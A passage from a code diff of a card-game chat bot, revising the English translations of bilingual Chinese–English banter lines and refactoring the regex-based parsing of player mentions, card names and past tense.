 	guess:zhong	{who}？看着像乖宝宝呀！	{who}? Looks like a good kid to me!
 	noguess	点到谁谁当鬼，再来一轮！	Tag, you're it! One more round!
-		小侦探上线啦，放大镜呢？	Little detective! Where's your glass?
+		小侦探上线啦，放大镜呢？	Little detective! Where's your magnifying glass?
 joke		噗哈哈，肚子疼啦！	Pff ha ha, my tummy hurts!
 		嘿嘿，我也有一个：你的手牌！	Hee hee, I have one too: your hand!
 small_talk		咦，你也在摸鱼呀？	Ooh, are you slacking off too?
@@ -25323,7 +25537,7 @@ agree		对哒对哒，拍个手！	Yep yep, high five!
 		嘿嘿，你也这么想，坏坏的！	Hee hee, you think so too? Naughty!
 		没错没错，举双手双脚！	Right! Both hands up, both feet too!
 unclear		啊咧？小脑袋转不过来啦！	Huh? My little head is spinning!
-		再说一遍嘛，刚才在数牌！	Again please, I was counting cards!
+		再说一遍嘛，刚才在数牌！	Say it again, please, I was counting cards!
 		这是暗号吗？口令是什么？	Is that a code? What's the password?
 ack		收到收到，盖个小红花！	Got it! Here's a gold star!
 		嗯嗯，装进小口袋啦！	Mm-hm, into my pocket it goes!
@@ -25333,18 +25547,18 @@ boundary_soft		哎，这个不好玩，换一个嘛！	Aw, that's no fun. Try an
 		嘟嘟，前方越线，请掉头！	Beep beep, line ahead, turn around!
 boundary_firm		不行就是不行哦，我认真的。	No means no. I'm serious now.
 		这句没收，关小黑屋！	Confiscated! That one goes to the dungeon!
-		再说我真的不玩啦！	Say it again and I really stop playing!
+		再说我真的不玩啦！	Say it again and I'm really not playing!
 boundary_leave		不跟你玩啦，我数一百只羊去！	Not playing with you! Off to count sheep!
-		嘴巴拉上拉链啦！	Zipped my lips!
-		哼，面壁的是你不是我！	Hmph, it's you who goes to the corner!
-refuse_control		才不改呢，改了就不好玩啦！	Won't change! It'd be no fun!
+		嘴巴拉上拉链啦！	My lips are zipped!
+		哼，面壁的是你不是我！	Hmph, you're the one who should face the wall!
+refuse_control		才不改呢，改了就不好玩啦！	I won't change! That'd be no fun!
 		学你说话？鹦鹉在隔壁哦！	Copy you? The parrot lives next door!
 sarcasm_ky		哇，你是从哪朵云上掉下来的呀？	Wow, which cloud did you fall from?
 		嘘，现在是憋笑时间！	Shh, it's no-giggling time!
 		读气氛小课堂，扣一朵小红花！	Room-reading class: minus one gold star!
 sarcasm_boring		嗯哦啊，凑齐啦，胡了！	Mm, oh, ah: a full set, I win!
 		电量不足，请给你充充电！	Battery low! Please recharge!
-		一个字一颗糖，你欠我好多哦！	A candy a word; you owe me lots!
+		一个字一颗糖，你欠我好多哦！	One candy per word, so you owe me lots!
 confusion		咦咦咦？脑袋打结啦！	Eh? Eh? My brain's in a knot!
 		你是不是把台词本拿反啦？	Are you holding the script upside down?
 		我假装听懂了，下一题！	I'll pretend I got it. Next question!
@@ -25357,40 +25571,40 @@ lord_low		主公只剩一滴啦，滴答滴答！	One drop left for the lord, ti
 		哎呀呀，主公要变小星星啦！	Oh my, the lord is about to see stars!
 		嘘，全桌屏住呼吸！	Shh, everyone hold your breath!
 hit_by_lord		主公打我干嘛，我又没偷吃！	Why hit me, my lord? I ate no cookies!
-		主公开盲盒，开到我啦！	The lord's lucky dip, and I came out!
+		主公开盲盒，开到我啦！	The lord's lucky dip, and the prize was me!
 hit_me		哎哟，{by}揪我辫子！	Ouch! {by} pulled my hair!
 		嘿嘿，{by}，我会还的哦！	Hee hee, {by}, I'll pay it back!
 		痛痛飞走！飞到{by}那去！	Ow, ow, fly away, over to {by}!
 hit_me_again		{by}又来！我要集齐七次召唤神龙啦！	{by} again! Seven hits and I get a wish!
 		又打我？小本本画正字啦！	Again? I'm keeping tally marks!
-saved_me		{by}最好啦，给你贴小红花！	{by} is the best! Gold star for you!
+saved_me		{by}最好啦，给你贴小红花！	You're the best, {by}! Gold star for you!
 		哇，复活啦！谢谢{by}！	Wow, I'm back! Thank you {by}!
-		嘿嘿，{by}舍不得我嘛！	Hee hee, {by} couldn't part with me!
+		嘿嘿，{by}舍不得我嘛！	Hee hee, you'd miss me, {by}!
 healed_me		咕嘟咕嘟，{by}的药甜甜的！	Glug glug, {by}'s medicine is sweet!
-		满血蹦跳，谢谢{by}！	Bouncing again, thanks {by}!
+		满血蹦跳，谢谢{by}！	I'm bouncing again, thanks {by}!
 wuxie_for_me		{by}挡得漂亮，击掌！	Nice block, {by}! High five!
 wuxie_against_me		哼，{by}没收了我的玩具！	Hmph, {by} took my toy away!
 taken_from_me		{by}偷我糖！抓小偷啦！	{by} stole my candy! Stop, thief!
 		还我还我，那张我最喜欢啦！	Give it back! That was my favourite!
 freed_me		嘿嘿，{by}放我出笼啦！	Hee hee, {by} let me out of the cage!
-given_to_me		{by}发糖啦，谢谢老板！	{by} hands out candy! Thanks, boss!
-i_killed		{to}淘汰，下局再陪你玩！	{to} is out! Play again next round!
+given_to_me		{by}发糖啦，谢谢老板！	Candy from {by}! Thanks, boss!
+i_killed		{to}淘汰，下局再陪你玩！	{to} is out! Let's play again next game!
 		嘭！{to}变烟花啦！	Boom! {to} went off like a firework!
 death_expected		看吧，{to}就是{role}，猜中有奖吗？	See? {to} was {role}. Do I get a prize?
-		嘿嘿，{to}的面具早歪啦！	Hee hee, that mask on {to} was crooked!
-		{role}一只，早就圈好啦！	{role}, circled long ago!
+		嘿嘿，{to}的面具早歪啦！	Hee hee, {to} was wearing the mask crooked!
+		{role}一只，早就圈好啦！	{role}! I had that circled long ago!
 death_surprise		咦咦！{to}是{role}？我开盲盒开傻啦！	What! {to} was {role}? My lucky dip failed!
 		哇，{to}演技满分，骗到我啦！	Wow, full marks for acting, {to}!
-		啊，猜反啦，脸好疼！	Ah, wrong guess, my face hurts!
+		啊，猜反啦，脸好疼！	Ah, wrong guess, how embarrassing!
 death_seen		{to}下线啦，挥挥手！	{to} has left the game! Wave!
 		原来{to}是{role}呀，记下啦！	So {to} was {role}! Noted!
 		少一个躲猫猫的啦！	One fewer in hide and seek!
 rescue_seen		{by}拉住{to}的小手啦！	{by} caught {to} by the hand!
-second_rebel_dead		反贼掉了两个，积木要倒啦！	Two rebels out, the tower wobbles!
+second_rebel_dead		反贼掉了两个，积木要倒啦！	Two rebels out, the tower's wobbling!
 two_left		就剩我和{you}啦，来抢最后一块糕！	Just me and {you}! Last piece of cake!
 big_group		{by}撒花啦，人人有份！	{by} throws confetti, some for everyone!
 i_am_dying		呜呜，血条没啦，谁有桃桃？	Boo-hoo, out of hearts! Peaches, anyone?
-		救救小可怜嘛，会还糖的那种！	Save this poor little thing, I repay in candy!
+		救救小可怜嘛，会还糖的那种！	Save this poor little thing, I'll pay you in candy!
 last_words		嘿嘿，我去当鬼啦，你们慢慢打！	Hee hee, I'm a ghost now. Boo!
 		下线啦，记得想我三秒哦！	Logging off. Miss me for three seconds!
 won		耶！赢啦，发糖发糖！	Yay! We won! Candy for all!
@@ -25403,18 +25617,18 @@ suspect		嘿嘿，{who}好像是{role}，我闻到啦！	Hee hee, {who} smells l
 got_flower	flower	哇，{by}送花花，插头上！	Wow, a flower from {by}! In my hair it goes!
 got_egg	egg	{by}扔蛋！我接住煎了吃！	{by} threw an egg! I'll fry it!
 answer_ai		{you}和我想的一样，拉钩！	{you} thinks as I do, pinky swear!
-		{you}吹牛，牛在天上飞呢！	{you} is bragging, see the cow fly!`;
+		{you}吹牛，牛在天上飞呢！	{you} is bragging, look at the cows fly!`;
 const ADDITIONS = [
-	["courtly/lead/0", "courtly", "lead", "", "容我一言：", "If I may: "],
+	["courtly/lead/0", "courtly", "lead", "", "容我一言：", "A word, if I may. "],
 	["courtly/lead/1", "courtly", "lead", "good", "承蒙厚意，", "Most kind. "],
-	["courtly/lead/2", "courtly", "lead", "bad", "说来惭愧，", "I am almost ashamed to say it: "],
-	["courtly/lead/3", "courtly", "lead", "even", "依在下看，", "As I see it: "],
-	["courtly/lead/4", "courtly", "lead", "firm", "恕我直言，", "Forgive my candour: "],
-	["courtly/tail/5", "courtly", "tail", "", "在下言尽于此。", " I say no more than that."],
+	["courtly/lead/2", "courtly", "lead", "bad", "说来惭愧，", "I blush to say it. "],
+	["courtly/lead/3", "courtly", "lead", "even", "依在下看，", "Very well. "],
+	["courtly/lead/4", "courtly", "lead", "firm", "恕我直言，", "Forgive my candour. "],
+	["courtly/tail/5", "courtly", "tail", "", "在下言尽于此。", " That is all I will say."],
 	["courtly/tail/6", "courtly", "tail", "good", "幸甚幸甚。", " I am much obliged."],
-	["courtly/tail/7", "courtly", "tail", "bad", "还望阁下三思。", " Pray think on it."],
+	["courtly/tail/7", "courtly", "tail", "bad", "还望阁下三思。", " Do think it over."],
 	["courtly/tail/8", "courtly", "tail", "even", "阁下以为如何？", " Would you not agree?"],
-	["courtly/tail/9", "courtly", "tail", "firm", "得罪了。", " No offence is meant."],
+	["courtly/tail/9", "courtly", "tail", "firm", "得罪了。", " No offence meant."],
 	["laconic/lead/10", "laconic", "lead", "", "嗯。", "Mm. "],
 	["laconic/lead/11", "laconic", "lead", "", "唔。", "Hm. "],
 	["laconic/lead/12", "laconic", "lead", "bad", "啧。", "Tsk. "],
@@ -25425,67 +25639,67 @@ const ADDITIONS = [
 	["laconic/tail/17", "laconic", "tail", "", "就这样。", " That's all."],
 	["laconic/tail/18", "laconic", "tail", "", "不多说。", " Enough said."],
 	["laconic/tail/19", "laconic", "tail", "even", "完。", " Done."],
-	["hearty/lead/20", "hearty", "lead", "", "哈哈，", "Ha ha! "],
+	["hearty/lead/20", "hearty", "lead", "", "哈哈，", "Hey! "],
 	["hearty/lead/21", "hearty", "lead", "good", "痛快！", "Splendid! "],
-	["hearty/lead/22", "hearty", "lead", "bad", "好家伙！", "Well, well! "],
-	["hearty/lead/23", "hearty", "lead", "even", "来来来，", "Come now! "],
+	["hearty/lead/22", "hearty", "lead", "bad", "好家伙！", "Whoa! "],
+	["hearty/lead/23", "hearty", "lead", "even", "来来来，", "Come on! "],
 	["hearty/lead/24", "hearty", "lead", "firm", "打住！", "Stop there! "],
-	["hearty/lead/25", "hearty", "lead", "firm", "咱丑话说前头，", "Hard words first: "],
+	["hearty/lead/25", "hearty", "lead", "firm", "咱丑话说前头，", "Let me be blunt! "],
 	["hearty/tail/26", "hearty", "tail", "", "喝酒喝酒！", " Drink up!"],
 	["hearty/tail/27", "hearty", "tail", "good", "满上！", " Fill the cups!"],
-	["hearty/tail/28", "hearty", "tail", "bad", "回头拼酒见！", " We'll settle it with wine!"],
-	["hearty/tail/29", "hearty", "tail", "even", "干了这碗再说！", " After this bowl!"],
+	["hearty/tail/28", "hearty", "tail", "bad", "回头拼酒见！", " We'll settle it over wine!"],
+	["hearty/tail/29", "hearty", "tail", "even", "干了这碗再说！", " Bottoms up first!"],
 	["fiery/lead/30", "fiery", "lead", "", "哼！", "Hmph! "],
 	["fiery/lead/31", "fiery", "lead", "bad", "岂有此理！", "Outrageous! "],
 	["fiery/lead/32", "fiery", "lead", "good", "好！", "Good! "],
 	["fiery/lead/33", "fiery", "lead", "even", "听着！", "Listen! "],
 	["fiery/lead/34", "fiery", "lead", "firm", "住嘴！", "Quiet! "],
 	["fiery/lead/35", "fiery", "lead", "firm", "再说翻脸！", "I'm warning you! "],
-	["fiery/tail/36", "fiery", "tail", "", "少废话！", " No more talk!"],
+	["fiery/tail/36", "fiery", "tail", "", "少废话！", " Enough talk!"],
 	["fiery/tail/37", "fiery", "tail", "bad", "气煞我也！", " I'm boiling!"],
 	["fiery/tail/38", "fiery", "tail", "good", "打！", " Now fight!"],
-	["fiery/tail/39", "fiery", "tail", "even", "开打！", " To arms!"],
-	["biting/lead/40", "biting", "lead", "", "啧，", "Tsk. "],
+	["fiery/tail/39", "fiery", "tail", "even", "开打！", " Let's fight!"],
+	["biting/lead/40", "biting", "lead", "", "啧，", "Well, well. "],
 	["biting/lead/41", "biting", "lead", "good", "哟，", "Oh my. "],
 	["biting/lead/42", "biting", "lead", "bad", "呵，", "Hah. "],
-	["biting/lead/43", "biting", "lead", "even", "依我这拙见，", "In my worthless view: "],
-	["biting/lead/44", "biting", "lead", "firm", "省省吧，", "Spare us. "],
+	["biting/lead/43", "biting", "lead", "even", "依我这拙见，", "Oh, well. "],
+	["biting/lead/44", "biting", "lead", "firm", "省省吧，", "Spare me. "],
 	["biting/lead/45", "biting", "lead", "firm", "啧啧，", "Tsk, tsk. "],
-	["biting/tail/46", "biting", "tail", "", "我就随口一说。", " Just saying."],
-	["biting/tail/47", "biting", "tail", "good", "真叫人意外。", " How surprising."],
+	["biting/tail/46", "biting", "tail", "", "我就随口一说。", " Not that it matters."],
+	["biting/tail/47", "biting", "tail", "good", "真叫人意外。", " What a surprise."],
 	["biting/tail/48", "biting", "tail", "bad", "真是高明。", " How very clever."],
-	["biting/tail/49", "biting", "tail", "even", "诸位高见？", " Any wisdom, anyone?"],
+	["biting/tail/49", "biting", "tail", "even", "诸位高见？", " Any bright ideas?"],
 	["plaintive/lead/50", "plaintive", "lead", "", "唉，", "Ah... "],
 	["plaintive/lead/51", "plaintive", "lead", "bad", "偏偏是我……", "Me, of all people... "],
 	["plaintive/lead/52", "plaintive", "lead", "good", "难得……", "How rare... "],
-	["plaintive/lead/53", "plaintive", "lead", "even", "罢了，", "Never mind. "],
-	["plaintive/lead/54", "plaintive", "lead", "firm", "别这样……", "Don't... "],
-	["plaintive/lead/55", "plaintive", "lead", "firm", "我会难受的，", "It hurts me. "],
-	["plaintive/tail/56", "plaintive", "tail", "", "由它去吧。", " Let it be."],
+	["plaintive/lead/53", "plaintive", "lead", "even", "罢了，", "So be it... "],
+	["plaintive/lead/54", "plaintive", "lead", "firm", "别这样……", "Please don't... "],
+	["plaintive/lead/55", "plaintive", "lead", "firm", "我会难受的，", "That hurts. "],
+	["plaintive/tail/56", "plaintive", "tail", "", "由它去吧。", " Oh, let it be."],
 	["plaintive/tail/57", "plaintive", "tail", "bad", "我早该料到的。", " I should have known."],
 	["plaintive/tail/58", "plaintive", "tail", "good", "我会记着的。", " I shall remember."],
-	["plaintive/tail/59", "plaintive", "tail", "even", "谁又在意呢。", " But who minds."],
-	["smooth/lead/60", "smooth", "lead", "", "哎呀，", "Oh dear. "],
+	["plaintive/tail/59", "plaintive", "tail", "even", "谁又在意呢。", " Not that anyone cares."],
+	["smooth/lead/60", "smooth", "lead", "", "哎呀，", "Well now. "],
 	["smooth/lead/61", "smooth", "lead", "good", "好说好说，", "Of course, of course. "],
 	["smooth/lead/62", "smooth", "lead", "good", "托福托福，", "Thanks to you all. "],
-	["smooth/lead/63", "smooth", "lead", "bad", "消消气消消气，", "Now, now, be calm. "],
-	["smooth/lead/64", "smooth", "lead", "even", "不瞒各位，", "Between friends: "],
+	["smooth/lead/63", "smooth", "lead", "bad", "消消气消消气，", "Now, now. "],
+	["smooth/lead/64", "smooth", "lead", "even", "不瞒各位，", "I'll be frank. "],
 	["smooth/lead/65", "smooth", "lead", "firm", "对不住，", "I do apologise. "],
-	["smooth/lead/66", "smooth", "lead", "firm", "大家都体面些，", "Let's all keep face. "],
-	["smooth/tail/67", "smooth", "tail", "", "和气生财嘛。", " Harmony above all."],
-	["smooth/tail/68", "smooth", "tail", "good", "改日必当重谢。", " I'll repay it richly."],
-	["smooth/tail/69", "smooth", "tail", "bad", "何必伤了和气。", " Why spoil the peace."],
-	["smooth/tail/70", "smooth", "tail", "even", "您看呢？", " What would you say?"],
-	["playful/lead/71", "playful", "lead", "", "嘿嘿，", "Hee hee! "],
+	["smooth/lead/66", "smooth", "lead", "firm", "大家都体面些，", "Let's all stay civil. "],
+	["smooth/tail/67", "smooth", "tail", "", "和气生财嘛。", " Let's all stay friends."],
+	["smooth/tail/68", "smooth", "tail", "good", "改日必当重谢。", " I'll make it up to you."],
+	["smooth/tail/69", "smooth", "tail", "bad", "何必伤了和气。", " Why spoil the mood?"],
+	["smooth/tail/70", "smooth", "tail", "even", "您看呢？", " What do you say?"],
+	["playful/lead/71", "playful", "lead", "", "嘿嘿，", "Ooh! "],
 	["playful/lead/72", "playful", "lead", "good", "好耶，", "Yay! "],
 	["playful/lead/73", "playful", "lead", "bad", "呜呜，", "Boo-hoo! "],
-	["playful/lead/74", "playful", "lead", "even", "咦，", "Ooh! "],
+	["playful/lead/74", "playful", "lead", "even", "咦，", "Aha! "],
 	["playful/lead/75", "playful", "lead", "firm", "嘟嘟，", "Beep beep! "],
-	["playful/lead/76", "playful", "lead", "firm", "不好玩啦，", "Not fun! "],
+	["playful/lead/76", "playful", "lead", "firm", "不好玩啦，", "Not funny! "],
 	["playful/tail/77", "playful", "tail", "good", "撒花！", " Confetti!"],
-	["playful/tail/78", "playful", "tail", "bad", "罚你一颗糖！", " That's a candy fine!"],
+	["playful/tail/78", "playful", "tail", "bad", "罚你一颗糖！", " That'll cost you a candy!"],
 	["playful/tail/79", "playful", "tail", "even", "好玩好玩！", " What fun!"],
-	["playful/tail/80", "playful", "tail", "even", "你说是不是嘛。", " Don't you think so too?"]
+	["playful/tail/80", "playful", "tail", "even", "你说是不是嘛。", " Don't you think?"]
 ];
 
 // src/chatter/voice/written.ts
@@ -27186,7 +27400,7 @@ const ROWS3 = [
 	["shandian", "闪电|lightning"],
 	["jiedao", "借刀杀人|借刀|borrowed (?:sword|knife)|collateral"],
 	["huogong", "火攻|fire attack"],
-	["tiesuo", "铁索连环|铁索|铁锁|铁链|连环|iron chain|chain(?:s|ed)?"],
+	["tiesuo", "铁索连环|铁索|铁锁|铁链|连环|iron chain|chains?(?!ed)"],
 	["zhuge", "诸葛连弩|连弩|crossbow"],
 	["bagua", "八卦阵?|eight trigrams|bagua"],
 	["renwang", "仁王盾?|renwang"],
@@ -27338,7 +27552,7 @@ function cancelledIn(clause, verbs, mentions, cards, when) {
 	return { ...base, by: party(by), to: party(target), ...owned ? { against: party(owned) } : {}, card: card.card };
 }
 
-// src/chatter/moves/people.ts
+// src/chatter/moves/naming.ts
 const DIGITS4 = "零一二三四五六七八九十";
 const HAN_NUMBER = "[一二三四五六七八九十]{1,2}";
 const NUMBER_WORDS2 = ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten"];
@@ -27370,7 +27584,7 @@ const SOURCES = [
 	],
 	[
 		"digit",
-		`(?<![\\d.:第剩有差欠扣了还就才共到近约x×*+-])(?<!\\b(?:down to|last|round|turn|have|has|had|got|only|least|most|\\d on) )\\d{1,2}(?! on \\d)${COUNTED}(?![a-z])`
+		`(?<![\\d.:第剩有差欠扣了还就才共到近约x×*+-])(?<!\\b(?:down to|last|round|turn|have|has|had|got|only|least|most|\\d on) )(?<!\\b(?:slash|hit|hurt|struck|strik|attack|burn|duel|heal|damag|shot|smack)[a-z]*\\b[^,.!?]{0,16} for )\\d{1,2}(?! on \\d)${COUNTED}(?![a-z])`
 	],
 	[
 		"han",
@@ -27404,11 +27618,6 @@ function numberIn2(words) {
 	if (first === "十") return 10 + DIGITS4.indexOf(second);
 	return second === "十" ? DIGITS4.indexOf(first) * 10 : NaN;
 }
-function neighbour3({ table }, of, step) {
-	const seats = table.seats.filter(({ seat, alive }) => alive || seat === of);
-	const at = seats.findIndex(({ seat }) => seat === of);
-	return at < 0 ? null : seats[(at + step + seats.length) % seats.length]?.seat ?? null;
-}
 const nameAt = (called, words) => called.byName.get(words) ?? (called.seats.find(({ calls }) => calls.includes(words)) ?? longestIn(called, words))?.seat ?? null;
 const longestIn = ({ seats }, words) => seats.map((names) => ({ names, length: Math.max(0, ...names.calls.map((c) => words.includes(c) ? c.length : 0)) })).reduce(
 	(best, one) => one.length > best.length ? one : best,
@@ -27416,87 +27625,31 @@ const longestIn = ({ seats }, words) => seats.map((names) => ({ names, length: M
 		length: 0
 	}
 ).names;
-const CALL_BEFORE = /(?:^|[,.!?;:])\s*(?:卧槽|我靠|靠|哇|不是|好家伙|诶诶|wtf|omg|wow|damn|wait|bro|dude|man|yo|@|喂|嘿|嗨|哎|诶|欸|那个|请问|我说|hey|hi|hello|yo|oi|ok|so|and|but|well|please|sorry|my bad|thx|ty|thanks|thank you|谢谢|多谢|对不起|抱歉|你好)?[\s,]*$/;
-const SAID_OF = /^\s*,\s*(?:(?:肯定|绝对|一定|必定?|铁|妥妥|多半|八成|大概|应该|显然|明显)(?:就)?(?:是|反|忠|内)|是(?!不是|你|谁|吗|吧)|[反忠内](?:贼|臣|奸)?(?:[,.!了啊吧呀]|$)|不对劲|可疑|有问题|装|跳反|不像|像(?!我)|一直|刚才|上回合|definitely|clearly|obviously|is |was |must be|looks|seems)/;
-const PRAISED = /\b(?:good job|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo) $/;
-const CALL_AFTER = /^\s*(?:说(?:真话|实话|句话)|老实说|给个准话|回个?话|表个态|先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|(?:deal|truce|listen|bro|dude|mate|promise|tell (?:me|us)|give (?:me|us)|show (?:me|us)|what even|why|how come)\b|[,:]|[!?]|你(?!们)|您|阁下|(?:you|u|are you|did you|do you|why did you|can you)\b)/;
-const PUT_TO = /^\s+(?:(?:why|what|how|when|where|who|which|if|unless|so|i)(?:'?(?:d|s|re|ll))?\b[^,.!?]{0,24}\b(?:you|u|ya|your|ur)|(?:will|would|could|should|did|do|are|were|have|can|r)\s+(?:you|u|ya))\b/;
-const DONE_TO = /[打杀砍拆顺救收给对跟和把被帮保护信是像叫让]了?$/;
-const CALL_BEHIND = /(?:[吧吗么呢啊呀嘛啦]|(?:^|[,.!?;:])\s*(?:别|不要|行|好|算|够|得)[^,.!?;:]{0,8}了)\s*$/;
-const ENDS2 = /^\s*(?:[,.!?;:~]|$)/;
-const isCalledBehind = (before, after) => CALL_BEHIND.test(before) && ENDS2.test(after);
-const ONLY_CALLED = /^\s*(?:救我|救命|别打我|信我|帮我|自己人|我是|我真是)/;
-function mentionsIn(text, { scene, from, hearer, he }) {
+function foundIn(text, scene, from) {
 	const found = [];
-	const known = scene.table.bySeat;
 	const cards = cardsIn(text);
-	let you = hearer;
 	for (const match of text.matchAll(naming(scene.called))) {
 		const groups = match.groups ?? {};
 		const words = match[0];
 		const start = match.index;
 		const end = start + words.length;
-		let seat;
-		let kind = "seat";
-		if (groups.name !== void 0) seat = nameAt(scene.called, words);
-		else if (groups.pet !== void 0) seat = scene.called.petOf(words, from);
-		else if (groups.side !== void 0) {
-			const of = /^(?:你|your)/.test(words) ? you : from;
-			seat = neighbour3(scene, of, /上家|right/.test(words) ? -1 : 1);
-		} else if (groups.lord !== void 0) seat = scene.table.lord;
-		else if (groups.self !== void 0) [seat, kind] = [from, "self"];
-		else if (groups.you !== void 0) [seat, kind] = [you, "you"];
-		else if (groups.he !== void 0) [seat, kind] = [null, "he"];
-		else if (groups.who !== void 0) [seat, kind] = [null, "who"];
+		const add = (kind, seat) => found.push({ kind, words, start, end, seat });
+		if (groups.name !== void 0) add("seat", nameAt(scene.called, words));
+		else if (groups.pet !== void 0) add("seat", scene.called.petOf(words, from));
+		else if (groups.side !== void 0) add("seat", void 0);
+		else if (groups.lord !== void 0) add("seat", scene.table.lord);
+		else if (groups.self !== void 0) add("self", from);
+		else if (groups.you !== void 0) add("you", void 0);
+		else if (groups.he !== void 0) add("he", null);
+		else if (groups.who !== void 0) add("who", null);
 		else if (groups.han !== void 0 && cards.some((card) => start >= card.start && start < card.end)) continue;
 		else {
 			const number = numberIn2(words);
-			seat = known.has(number) ? number : null;
-			if (seat === null && groups.number === void 0) continue;
-			if (seat === null) kind = "nobody";
+			if (scene.table.bySeat.has(number)) add("seat", number);
+			else if (groups.number !== void 0) add("nobody", null);
 		}
-		if (kind === "seat" && seat === null) continue;
-		const called = kind === "seat" && isCalled2(text, start, end);
-		if (called && seat !== from) you = seat;
-		found.push({ kind, seat, start, end, called });
 	}
-	const named = found.filter(
-		({ kind, end }) => kind !== "self" || !found.some((one) => one.kind === "seat" && one.seat === scene.table.lord && one.start === end)
-	);
-	return pronouns(text, named, { scene, from, he });
-}
-function isCalled2(text, start, end) {
-	if (/^[@#]/.test(text.slice(start, end))) return true;
-	const after = text.slice(end);
-	if (SAID_OF.test(after)) return false;
-	if (CALL_BEFORE.test(text.slice(0, start)) && (CALL_AFTER.test(after) || ONLY_CALLED.test(after))) return true;
-	if (CALL_BEFORE.test(text.slice(0, start)) && PUT_TO.test(after)) return true;
-	if (PRAISED.test(text.slice(0, start))) return true;
-	if (isCalledBehind(text.slice(0, start), after)) return true;
-	if (/^你(?!们|俩)/.test(after) && !DONE_TO.test(text.slice(0, start))) return true;
-	return /^[\s.!?~]*$/.test(after) && /[,!?]\s*$/.test(text.slice(0, start)) && start > 0;
-}
-const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定)*是(?:个|真|铁)?[忠反内]|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
-const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave)\s$/;
-const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
-function pronouns(text, mentions, { scene, from, he: before }) {
-	const spokenOf = ({ kind, called, seat }) => kind === "seat" && !called && seat !== from;
-	return mentions.map((mention, i) => {
-		if (mention.kind !== "he") return mention;
-		const earlier = mentions.slice(0, i).filter(spokenOf);
-		const turned = /是$/.test(text.slice(0, mention.start));
-		const clause = Math.max(...CLAUSE_ENDS.map((mark) => text.lastIndexOf(mark, mention.start)));
-		const object = DONE_TO.test(text.slice(0, mention.start)) || /^(?:him|her|them)$/.test(text.slice(mention.start, mention.end));
-		const near = turned || object ? earlier.filter(({ start }) => start < clause) : earlier;
-		const doers = near.filter(
-			({ start }) => !DONE_TO.test(text.slice(0, start)) && !DONE_TO_EN.test(text.slice(0, start))
-		);
-		const judged = IS_JUDGED.test(text.slice(mention.end)) && doers.length > 0;
-		const [lord, rest] = [scene.table.lord, judged ? doers : near];
-		const last = rest.filter(({ seat }) => seat !== lord).pop() ?? rest.pop() ?? // "4 killed him": nor the one who does it; "砍完吴苋又救他" is whoever had it done to them.
-		(object && before !== null ? earlier.filter(({ start }) => DONE_TO.test(text.slice(0, start)) || /[完过]$/.test(text.slice(0, start))).pop() : earlier.pop());
-		return { ...mention, seat: last?.seat ?? before };
-	});
+	return found.filter(({ kind, seat }) => kind !== "seat" || seat !== null);
 }
 
 // src/chatter/moves/counted.ts
@@ -27524,7 +27677,7 @@ const WEAPONS = "zhuge qinggang qinglong zhangba guanshi fangtian qilin cixiong 
 const ARMOURS = ["bagua", "renwang", "tengjia", "baiyin"];
 const MOUNTS = ["chitu", "dawan", "zixin", "dilu", "jueying", "zhuahuang", "hualiu"];
 const GEAR = new Set([...WEAPONS, ...ARMOURS, ...MOUNTS, "muniu"]);
-const KINDS4 = [
+const KINDS5 = [
 	[/坐骑|(?<=[的我你他她匹骑个么啥])马(?![上虎屁后到甲])|\bhorses?\b/, MOUNTS],
 	[
 		/防具|护甲|(?<=[的我你他她件穿么啥])甲|(?<=[的我你他她那这面把个])盾|盾(?=[拆砸没丢被])|\b(?:shield|armou?r)\b/,
@@ -27532,33 +27685,52 @@ const KINDS4 = [
 	],
 	[/武器|(?<=[的那这把张])(?:弓|弩|剑|斧|戟|枪)(?![杀箭])|\bweapons?\b/, WEAPONS]
 ];
-const gearIn = (text, named) => KINDS4.flatMap(([words, cards]) => words.test(text) && !cards.some((card) => named.has(card)) ? cards : []);
+const gearIn = (text, named) => KINDS5.flatMap(([words, cards]) => words.test(text) && !cards.some((card) => named.has(card)) ? cards : []);
+
+// src/chatter/moves/tense.ts
+const PAST = /了|每|就把|连[吃喝砍杀打]|[又还]要|过(?!河|来|去|牌|拆)|头一个|那(?:[一二两三四五六几\d]*)(?:张|手|下|刀|发|个|杀)|这(?:张|下|刀|发)|上回|早先|之前|走$|刚|被|又|成[这那]|开场|一?上来|转[头手]|[前后]脚|居然|竟|还(?=补|从|给)|已经|一直|总|老(?=[是在来去往打杀砍拆顺扣盯针欺追烧偷抢拿给跟冲])|(?<=[你我他她])那(?![么就我你会])|昨|上(?:个|一)?(?:回合|轮|圈)|第.{1,2}(?:轮|回合)|开局|(?:一|两|二|三|几|\d)(?:张|刀|次|下|滴|点|口)|的(?:是|人|就)|\b(?:did|was|were|got|have|has|had|been|just|last|ago|keeps?|always)\b/;
+const OVER = /^.?[掉完]?了/;
+const DONE = /^的(?!好|不错|漂亮|真|太|时候|话)/;
+const ENGLISH_PAST = /ed$|^(?:hit|struck|shot|stole|stolen|gave|took|threw|slew|slain|hurt|went for|dead|died|broke)/;
+const FUTURE = /(?:(?<!又)要|想|会|别|去|快|(?<!早)先(?!.{0,4}[再又])|(?<![上本后原]|了.{0,2})来|该|请|将|敢|准备|打算|应该|必须|得|(?<!先.{0,5})再|倒是|给我|可以|能|帮我|让|不许|不准|如果|要是|谁敢|下(?:个|一)?(?:回合|轮|圈)|别再|不要|求|等(?:我|着)|'ll|\b(?:will|would|should|could|can|must|gonna|let's|lets|let|don't|dont|please|pls|to|if|might|next)\b)/;
+const isOver = (when) => when?.which === "last_turn" || when?.which === "last_round";
+const BARE = /^(?:hit|hurt)$/;
+const JOINED = /^(?:(?:and|then|now|just|so|ok|pls|please|lord|or|but)[ ,]+)*$/;
+function isPast(clause, { start, end, when }, { dies, passive, caused, ordered }) {
+	const before = clause.slice(0, start);
+	const words = clause.slice(start, end);
+	if (ordered && BARE.test(words) && JOINED.test(before)) return false;
+	const over = isOver(when) || PAST.test(clause.slice(Math.max(0, start - 8), Math.min(clause.length, end + 8))) || ENGLISH_PAST.test(words) || dies || DONE.test(clause.slice(end).replace(/^[掉走]/, "")) || passive;
+	return over && !/\b(?:pls|please|plz)\b/.test(clause.slice(end)) && !FUTURE.test(
